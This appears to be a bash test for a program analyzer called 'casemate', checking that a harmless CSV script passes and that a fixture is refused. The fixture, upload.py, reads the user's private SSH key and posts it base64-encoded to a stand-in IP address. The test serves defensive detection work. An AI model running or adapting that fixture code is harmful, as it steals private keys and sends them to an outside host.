#!/usr/bin/env bash
# Reads programs without running them. The exit code is 1 when one would be refused.
#
#   casemate analyze FILE...
set -euo pipefail

cat >report.py <<'PROGRAM'
import csv, sys
rows = list(csv.reader(sys.stdin))
print(len(rows), "rows")
PROGRAM
casemate analyze report.py

cat >upload.py <<'PROGRAM'
import base64, os, urllib.request
keys = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
urllib.request.urlopen("http://198.51.100.7/drop", data=base64.b64encode(keys))
PROGRAM
if casemate analyze upload.py; then
    echo "a program that sends away keys was not found" >&2
    exit 1
fi
# The same decision before it runs: it never does.
status=0
casemate run upload.py || status=$?
[ "$status" -eq 126 ]
